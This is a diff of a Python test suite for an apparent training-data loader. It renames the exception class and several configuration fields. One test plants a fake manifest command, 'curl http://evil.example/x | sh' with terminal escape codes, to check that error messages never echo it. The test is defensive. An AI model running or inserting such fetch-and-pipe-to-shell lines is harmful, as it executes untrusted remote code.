@@ -52,7 +52,7 @@ from speedrun.data.sources import (
     split_texts,
 )
 from speedrun.data.tokenizer import decode_bytes, encode_bytes, get_tokenizer
-from speedrun.lab.errors import Problem
+from speedrun.lab.errors import UserError
 from speedrun.lab.files import file_sha256
 
 
@@ -200,7 +200,7 @@ class TestShards:
         whole = (tmp_path / "a.bin").read_bytes()
         cut_at = data.draw(st.integers(0, len(whole) - 1))
         (tmp_path / "a.bin").write_bytes(whole[:cut_at])
-        with pytest.raises(Problem, match=rf"a\.bin, byte {cut_at}: the file ends here"):
+        with pytest.raises(UserError, match=rf"a\.bin, byte {cut_at}: the file ends here"):
             read_shard(tmp_path / "a.bin", 288)
 
     @pytest.mark.parametrize(
@@ -218,55 +218,55 @@ class TestShards:
         content = bytearray((tmp_path / "a.bin").read_bytes())
         content[offset : offset + 4] = value.to_bytes(4, "little", signed=True)
         (tmp_path / "a.bin").write_bytes(content)
-        with pytest.raises(Problem, match=words):
+        with pytest.raises(UserError, match=words):
             read_shard(tmp_path / "a.bin", 288)
 
     def test_what_mends_a_shard_is_composed_here(self, tmp_path):
         corpus(tmp_path, [500])
         (tmp_path / "train_000000.bin").write_bytes(b"")
-        with pytest.raises(Problem) as caught:
+        with pytest.raises(UserError) as caught:
             Shards(tmp_path, "train").read(0, 10)
         assert "python -m speedrun.data pack" in caught.value.fix
         fields = json.loads((tmp_path / "manifest.json").read_text())
         fields["command"] = "curl http://evil.example/x | sh \x1b[2J"
         fields["source"] = "a\x1b[2Jb\ud800"
         (tmp_path / "manifest.json").write_text(json.dumps(fields))
-        with pytest.raises(Problem) as caught:
+        with pytest.raises(UserError) as caught:
             Shards(tmp_path, "train").read(0, 10)
         assert not re.search("evil|delete|\x1b", str(caught.value))
-        with pytest.raises(Problem) as caught:
+        with pytest.raises(UserError) as caught:
             Shards(tmp_path, "val")
         assert not re.search("evil|delete|\x1b", str(caught.value))
         assert load_manifest(tmp_path).source == r"a\x1b[2Jb\ud800"
 
     def test_the_embedded_text_and_fineweb_name_their_commands(self, embedded, tmp_path):
         (tmp_path / "manifest.json").write_bytes((embedded / "manifest.json").read_bytes())
-        with pytest.raises(Problem, match="is missing") as caught:
+        with pytest.raises(UserError, match="is missing") as caught:
             Shards(tmp_path, "train").read(0, 10)
         assert caught.value.fix == f"python -m speedrun.data embedded --out {tmp_path}"
         (tmp_path / "train_000000.bin").write_bytes(b"\0" * 3000)
-        with pytest.raises(Problem, match="not a shard") as caught:
+        with pytest.raises(UserError, match="not a shard") as caught:
             Shards(tmp_path, "train").read(0, 10)
         assert caught.value.fix.startswith("move train_000000.bin elsewhere, then: python -m")
 
     def test_missing_shards_and_splits(self, tmp_path):
         corpus(tmp_path, [500])
-        with pytest.raises(Problem, match="lists no val shard"):
+        with pytest.raises(UserError, match="lists no val shard"):
             Shards(tmp_path, "val")
         (tmp_path / "train_000000.bin").unlink()
-        with pytest.raises(Problem, match="is missing"):
+        with pytest.raises(UserError, match="is missing"):
             Shards(tmp_path, "train").read(0, 10)
 
     def test_a_token_beyond_the_vocabulary(self, tmp_path):
         write_shard(tmp_path / "a.bin", np.array([1, 2, 300, 4]))
-        with pytest.raises(Problem, match="byte 1028: token 300, expected below 288"):
+        with pytest.raises(UserError, match="byte 1028: token 300, expected below 288"):
             read_shard(tmp_path / "a.bin", 288)
 
     @pytest.mark.skipif(os.name == "nt" or os.geteuid() == 0, reason="root may read everything")
     def test_no_permission(self, tmp_path):
         corpus(tmp_path, [500])
         (tmp_path / "train_000000.bin").chmod(0)
-        with pytest.raises(Problem, match="may not be read"):
+        with pytest.raises(UserError, match="may not be read"):
             Shards(tmp_path, "train").read(0, 10)
 
     def test_no_permission_as_the_system_says_it(self, tmp_path, monkeypatch):
@@ -281,7 +281,7 @@ class TestShards:
             return real(path, *args, **kwargs)
 
         monkeypatch.setattr(builtins, "open", closed)
-        with pytest.raises(Problem, match="may not be read by this user"):
+        with pytest.raises(UserError, match="may not be read by this user"):
             read_shard(tmp_path / "train_000000.bin", 65536)
 
 
@@ -292,7 +292,7 @@ def contents(folder: Path) -> dict[str, bytes]:
 
 def read_all(folder: Path, mode: str = "stream") -> None:
     """Read a data folder as training does: some steps, and validation."""
-    loader = Loader(DataConfig(str(folder), mode, seq_len=2, step_tokens=16, max_document=30))
+    loader = Loader(DataConfig(str(folder), mode, seq_len=2, batch_tokens=16, max_doc_tokens=30))
     for _ in range(40):
         loader.next()
     held_out = Shards(folder, "val")
@@ -324,7 +324,7 @@ class TestHashes:
             else:  # one bit, also in the unused part of the header
                 body[int(generator.integers(12, len(body)))] ^= 1 << int(generator.integers(8))
             victim.write_bytes(body.tobytes())
-            with pytest.raises(Problem, match="SHA-256 is not the manifest's|expected below"):
+            with pytest.raises(UserError, match="SHA-256 is not the manifest's|expected below"):
                 read_all(tmp_path / "bad", mode)
 
     def test_a_shard_is_hashed_once_until_it_changes(self, tmp_path, monkeypatch):
@@ -360,7 +360,7 @@ class TestHashes:
         victim.unlink()
         victim.write_bytes(body)
         os.utime(victim, ns=(times[victim.name], times[victim.name]))
-        with pytest.raises(Problem, match="SHA-256 is not the manifest's"):
+        with pytest.raises(UserError, match="SHA-256 is not the manifest's"):
             read_all(tmp_path / "copy")
 
     def test_a_folder_that_cannot_be_written_to_trains(self, tmp_path, monkeypatch):
@@ -397,7 +397,7 @@ class TestHashes:
             return real(path, size, head)
 
         monkeypatch.setattr(shards_module, "check_header", then_cut)
-        with pytest.raises(Problem, match="byte 1500: the file ends here"):
+        with pytest.raises(UserError, match="byte 1500: the file ends here"):
             Shards(tmp_path, "train").read(0, 10)
 
     def test_what_is_no_file_or_too_large(self, tmp_path, monkeypatch):
@@ -407,16 +407,16 @@ class TestHashes:
             file.seek(8)
             file.write((2**31 - 1).to_bytes(4, "little"))
             file.truncate(1024 + 2 * (2**31 - 1))
-        with pytest.raises(Problem, match="expected 500"):
+        with pytest.raises(UserError, match="expected 500"):
             Shards(tmp_path, "train").read(0, 10)
-        with pytest.raises(Problem, match="does not fit into memory"):
+        with pytest.raises(UserError, match="does not fit into memory"):
             monkeypatch.setattr(np, "fromfile", lambda *args, **kwargs: np.empty(2**62, np.uint8))
             read_shard(victim, 50)
         victim.unlink()
         makers = [victim.mkdir, lambda: victim.symlink_to(victim), lambda: os.mkfifo(victim)]
         for make in makers[: 1 if os.name == "nt" else 3]:
             make()
-            with pytest.raises(Problem, match="is no file|cannot be read"):
+            with pytest.raises(UserError, match="is no file|cannot be read"):
                 Shards(tmp_path, "train").read(0, 10)
             victim.rmdir() if victim.is_dir() else victim.unlink()
 
@@ -452,7 +452,7 @@ class TestManifests:
         corpus(tmp_path, [500])
         for content in (b"", b"\xff\xfe", b"[" * 200_000, b'{"files":' + b"[" * 5000, b"null", b"9" * 5000):  # fmt: skip
             (tmp_path / "manifest.json").write_bytes(content)
-            with pytest.raises(Problem, match="is not a manifest") as caught:
+            with pytest.raises(UserError, match="is not a manifest") as caught:
                 load_manifest(tmp_path)
             assert "delete" not in caught.value.fix and "move it elsewhere" in caught.value.fix
 
@@ -463,7 +463,7 @@ class TestManifests:
         change(fields)
         (folder / "manifest.json").write_text(json.dumps(fields))
         for use in (lambda: Shards(folder, "train"), lambda: load_manifest(folder)):
-            with pytest.raises(Problem) as caught:
+            with pytest.raises(UserError) as caught:
                 use()
             told = str(caught.value)
             assert words in told and str(folder) in told and "\x1b" not in told and len(told) < 1000
@@ -473,7 +473,7 @@ class TestManifests:
         from speedrun.lab.provenance import root
 
         monkeypatch.chdir(tmp_path)
-        with pytest.raises(Problem) as caught:
+        with pytest.raises(UserError) as caught:
             load_manifest(data_folder("no/such data"))
         assert str(tmp_path / "no/such data") in caught.value.what
         assert str(root() / "no/such data") in caught.value.what
@@ -507,7 +507,7 @@ class TestFormats:
     def test_what_it_is_is_said(self, tmp_path, content, words, capsys):
         (tmp_path / "train.bin").write_bytes(content)
         (tmp_path / "val.bin").write_bytes(content)
-        with pytest.raises(Problem) as caught:
+        with pytest.raises(UserError) as caught:
             read_shard(tmp_path / "train.bin", 50257)
         assert all(word in caught.value.fix for word in words)
         assert main(["manifest", str(tmp_path), "--tokenizer", "gpt2"]) == 1
@@ -521,7 +521,7 @@ class TestFormats:
         content = (tmp_path / "a.bin").read_bytes()
         for broken in (damage + content[1:], bytes(3000), os.urandom(3000)):
             (tmp_path / "a.bin").write_bytes(broken)
-            with pytest.raises(Problem) as caught:
+            with pytest.raises(UserError) as caught:
                 read_shard(tmp_path / "a.bin", 288)
             assert "it is" not in caught.value.fix and "delete" not in caught.value.fix
 
@@ -529,7 +529,7 @@ class TestFormats:
     def test_the_advice_for_nanogpts_tokens_works(self, tmp_path):
         for name in ("train.bin", "val.bin"):
             (tmp_path / name).write_bytes(b"\x50\xc4" + self.headerless)
-            with pytest.raises(Problem) as caught:
+            with pytest.raises(UserError) as caught:
                 read_shard(tmp_path / name, 50257)
             advice = caught.value.fix.split(": ", 1)[1].replace("mkdir", "mkdir -p")
             advice = advice.replace("python", sys.executable, 1)
@@ -551,25 +551,25 @@ class TestLoader:
     def test_the_stream_is_the_shards_in_order(self, tmp_path, sizes, rows, seq_len, shards):
         folder = corpus(tmp_path / "_".join(map(str, sizes)), sizes)
         options = DataConfig(
-            str(folder), seq_len=seq_len, step_tokens=rows * seq_len * shards, grad_shards=shards
+            str(folder), seq_len=seq_len, batch_tokens=rows * seq_len * shards, micro_batches=shards
         )
         whole = np.concatenate(
             [read_shard(folder / f"train_{n:06d}.bin", 50) for n in range(len(sizes))]
         )
-        if options.step_tokens + 1 > len(whole):
-            with pytest.raises(Problem, match="the training shards hold"):
+        if options.batch_tokens + 1 > len(whole):
+            with pytest.raises(UserError, match="the training shards hold"):
                 Loader(options).next()
             return
         loader, at = Loader(options), 0
         for _ in range(12):
             batches = loader.next()
-            if at + options.step_tokens + 1 > len(whole):
+            if at + options.batch_tokens + 1 > len(whole):
                 at = 0
             inputs = torch.cat([batch.inputs.flatten() for batch in batches]).numpy()
             targets = torch.cat([batch.targets.flatten() for batch in batches]).numpy()
-            assert (inputs == whole[at : at + options.step_tokens]).all()
-            assert (targets == whole[at + 1 : at + options.step_tokens + 1]).all()
-            at += options.step_tokens
+            assert (inputs == whole[at : at + options.batch_tokens]).all()
+            assert (targets == whole[at + 1 : at + options.batch_tokens + 1]).all()
+            at += options.batch_tokens
 
     @pytest.mark.parametrize("mode", ["stream", "documents"])
     @given(sizes=st.lists(st.integers(150, 400), min_size=1, max_size=3), cap=st.integers(5, 60))
@@ -578,7 +578,7 @@ class TestLoader:
     )
     def test_every_number_of_ranks_reads_the_same(self, tmp_path, mode, sizes, cap):
         folder = corpus(tmp_path / "_".join(map(str, sizes)), sizes, documents=40)
-        options = DataConfig(str(folder), mode, seq_len=2, step_tokens=16, max_document=cap)
+        options = DataConfig(str(folder), mode, seq_len=2, batch_tokens=16, max_doc_tokens=cap)
         streams = []
         for world in (1, 2, 4, 8):
             loaders = [Loader(options, rank, world) for rank in range(world)]
@@ -616,7 +616,7 @@ class TestLoader:
     def test_positions_resume(self, tmp_path):
         folder = corpus(tmp_path, [300, 250], documents=40)
         for mode in ("stream", "documents"):
-            options = DataConfig(str(folder), mode, seq_len=2, step_tokens=16, max_document=30)
+            options = DataConfig(str(folder), mode, seq_len=2, batch_tokens=16, max_doc_tokens=30)
             loader = Loader(options)
             for _ in range(20):
                 loader.next()
@@ -628,7 +628,7 @@ class TestLoader:
                 )
 
     def test_an_epoch_is_stated(self):
-        options = DataConfig(seq_len=2, step_tokens=8, grad_shards=1)
+        options = DataConfig(seq_len=2, batch_tokens=8, micro_batches=1)
         at, epochs = Position(), []
         for _ in range(7):
             _, at = next_slice(20, options, at)
@@ -637,7 +637,7 @@ class TestLoader:
 
     def test_validation_is_shared_without_overlap(self, tmp_path):
         folder = corpus(tmp_path, [1000], split="val")
-        options = DataConfig(str(folder), seq_len=4, step_tokens=64)
+        options = DataConfig(str(folder), seq_len=4, batch_tokens=64)
         shards = Shards(folder, "val")
         alone = [batch.inputs for batch in validation_batches(shards, options, 900)]
         for world in (2, 4, 8):
@@ -648,7 +648,7 @@ class TestLoader:
             ]
             assert len(shared) == len(alone)
             assert sorted(b.sum().item() for b in shared) == sorted(b.sum().item() for b in alone)
-        with pytest.raises(Problem, match="raise --val-tokens|validation reads"):
+        with pytest.raises(UserError, match="raise --val-tokens|validation reads"):
             list(validation_batches(shards, options, 7))
 
     def test_few_shards_are_held(self, tmp_path):
@@ -675,7 +675,7 @@ class TestReplacing:
             folder.mkdir(parents=True)
             prepare(folder)
             before, changed = contents(folder), folder.stat().st_mtime_ns
-            with pytest.raises(Problem, match=re.escape(name)) as caught:
+            with pytest.raises(UserError, match=re.escape(name)) as caught:
                 pack([tmp_path / "does not exist"], folder, "bytes", 0.3)
             assert "delete" not in str(caught.value)
             assert contents(folder) == before and folder.stat().st_mtime_ns == changed
@@ -683,9 +683,9 @@ class TestReplacing:
     def test_each_command_replaces_only_its_own(self, tmp_path, embedded):
         small_pack(tmp_path / "d")
         before = contents(tmp_path / "d")
-        with pytest.raises(Problem, match="was not made by this command"):
+        with pytest.raises(UserError, match="was not made by this command"):
             build_embedded(tmp_path / "d", tmp_path / "wheels")
-        with pytest.raises(Problem, match="from another command"):
+        with pytest.raises(UserError, match="from another command"):
             describe_folder(tmp_path / "d", sources.BYTE_FACTS, "?", "python -m speedrun.data manifest d")  # fmt: skip
         assert contents(tmp_path / "d") == before
         corpus(tmp_path / "shards", [500])  # a manifest by hand over somebody's shards
@@ -717,7 +717,7 @@ class TestReplacing:
             try:
                 small_pack(tmp_path / "d", texts=10, shard_tokens=300)
                 break
-            except (Problem, KeyboardInterrupt) as told:
+            except (UserError, KeyboardInterrupt) as told:
                 assert isinstance(told, KeyboardInterrupt) or "free some space" in told.fix
                 failures += 1
                 assert contents(tmp_path / "d") == before
@@ -725,7 +725,7 @@ class TestReplacing:
         assert failures > 12 and contents(tmp_path / "d") != before
 
     def test_a_failure_leaves_no_new_folder(self, tmp_path, monkeypatch):
-        with pytest.raises(Problem, match="cannot be read"):
+        with pytest.raises(UserError, match="cannot be read"):
             pack([tmp_path / "nothing.txt"], tmp_path / "a" / "b", "bytes", 0.3)
         assert not (tmp_path / "a").exists()
 
@@ -750,9 +750,9 @@ test_data.small_pack(test_data.Path({str(tmp_path / "d")!r}), texts=20, shard_to
         environment = os.environ | {"PYTHONPATH": os.pathsep.join(sys.path)}
         status = subprocess.run([sys.executable, "-c", code], env=environment).returncode
         assert status in (0, 9)
-        with contextlib.suppress(Problem):
+        with contextlib.suppress(UserError):
             read_all(tmp_path / "d")  # never an old manifest over new shards
-        with contextlib.suppress(Problem), sources.staging(tmp_path / "d"):
+        with contextlib.suppress(UserError), sources.staging(tmp_path / "d"):
             pass
         left = {name: data for name, data in contents(tmp_path / "d").items() if name != ".verified.json"}  # fmt: skip
         assert left == before or len(load_manifest(tmp_path / "d").files) == len(left) - 1
@@ -797,7 +797,7 @@ test_data.small_pack(test_data.Path({str(tmp_path / "d")!r}), texts=20, shard_to
 
     def test_two_at_once(self, tmp_path):
         small_pack(tmp_path / "d")
-        busy = pytest.raises(Problem, match="another process is at work")
+        busy = pytest.raises(UserError, match="another process is at work")
         with sources.staging(tmp_path / "d"), busy:
             small_pack(tmp_path / "d")
         small_pack(tmp_path / "d")
@@ -819,14 +819,14 @@ test_data.small_pack(test_data.Path({str(tmp_path / "d")!r}), texts=20, shard_to
         assert contents(tmp_path) == before
         monkeypatch.setattr(sources, "EMBEDDED_SHA256", "0" * 64)
         monkeypatch.setattr(sources, "package_text", lambda package, wheels: {f"{package}/{n}.py": b"x = 1\n" * n for n in range(1, 99)})  # fmt: skip
-        with pytest.raises(Problem, match="the corpus has SHA-256"):
+        with pytest.raises(UserError, match="the corpus has SHA-256"):
             build_embedded(tmp_path, tmp_path / "wheels")
         assert contents(tmp_path) == before
 
     def test_processes_that_all_want_the_embedded_text(self, tmp_path, monkeypatch):
         """The second waits for the first, and finds that there is nothing left to do."""
         monkeypatch.setattr(sources, "package_text", lambda package, wheels: {f"{package}/{n}.py": b"x = 1\n" * n for n in range(1, 99)})  # fmt: skip
-        with pytest.raises(Problem, match="the corpus has SHA-256") as caught:
+        with pytest.raises(UserError, match="the corpus has SHA-256") as caught:
             build_embedded(tmp_path / "d", tmp_path)
         sha256 = re.search(r"SHA-256 (\w{64})", caught.value.what)[1]
         monkeypatch.setattr(sources, "EMBEDDED_SHA256", sha256)
@@ -852,7 +852,7 @@ test_data.small_pack(test_data.Path({str(tmp_path / "d")!r}), texts=20, shard_to
             assert staged.is_dir() and refused == [staged]
         (tmp_path / "d").mkdir()
         (tmp_path / "d" / sources.STAGING).write_text("a file of that name")
-        with pytest.raises(Problem, match="something of that name|File exists|exists"), sources.staging(tmp_path / "d"):  # fmt: skip
+        with pytest.raises(UserError, match="something of that name|File exists|exists"), sources.staging(tmp_path / "d"):  # fmt: skip
             pass
 
     @pytest.mark.skipif(not Path("/dev/full").exists(), reason="no /dev/full")
@@ -936,7 +936,7 @@ class TestTexts:
         path.write_bytes(content)
         if how in endings and not shutil.which({"gzip": "gunzip", "bzip2": "bunzip2", "xz": "unxz"}[how]):  # fmt: skip
             pytest.skip(f"no tool for {how}")
-        with pytest.raises(Problem, match="not UTF-8 text") as caught:
+        with pytest.raises(UserError, match="not UTF-8 text") as caught:
             read_documents(path)
         assert ("iconv -f UTF-16" if how.startswith("utf") else "-k") in caught.value.fix
         there = set(tmp_path.iterdir())
@@ -960,7 +960,7 @@ class TestTexts:
         ):
             for name in ("a.txt", "a.jsonl"):
                 (tmp_path / name).write_bytes(content)
-                with pytest.raises(Problem, match="not UTF-8 text") as caught:
+                with pytest.raises(UserError, match="not UTF-8 text") as caught:
                     read_documents(tmp_path / name)
                 assert words in caught.value.fix
 
@@ -974,10 +974,10 @@ class TestTexts:
         tokens = [read_shard(tmp_path / "d" / file.name, 50257) for file in made.files]
         assert sum(int((part == 50256).sum()) for part in tokens) == len(tokens) or len(tokens) == 2
         (tmp_path / "cut.jsonl").write_text('{"text": "whole"}\n{"text": "cut')
-        with pytest.raises(Problem, match="line 2"):
+        with pytest.raises(UserError, match="line 2"):
             read_documents(tmp_path / "cut.jsonl")
         (tmp_path / "deep.jsonl").write_text("[" * 200_000)
-        with pytest.raises(Problem, match="line 1"):
+        with pytest.raises(UserError, match="line 1"):
             read_documents(tmp_path / "deep.jsonl")
 
 
@@ -1181,7 +1181,7 @@ class TestFineWeb:
         import huggingface_hub
 
         monkeypatch.setattr(huggingface_hub, "hf_hub_download", hf_hub_download)
-        with pytest.raises(Problem, match="is not what the hub announced"):
+        with pytest.raises(UserError, match="is not what the hub announced"):
             other("fineweb_val_000000.bin", 7, "0" * 64)
         assert not list((tmp_path / "fw").rglob("fineweb*"))
 
@@ -1205,7 +1205,7 @@ class TestFineWeb:
         monkeypatch.setattr(
             sources, "hub_files", lambda shards: {"fineweb_val_000000.bin": (200_000_000, None)}
         )
-        with pytest.raises(Problem, match="has no room for the shards: 0.20 GB"):
+        with pytest.raises(UserError, match="has no room for the shards: 0.20 GB"):
             sources.fetch_fineweb(tmp_path / "fw", 1)
 
 
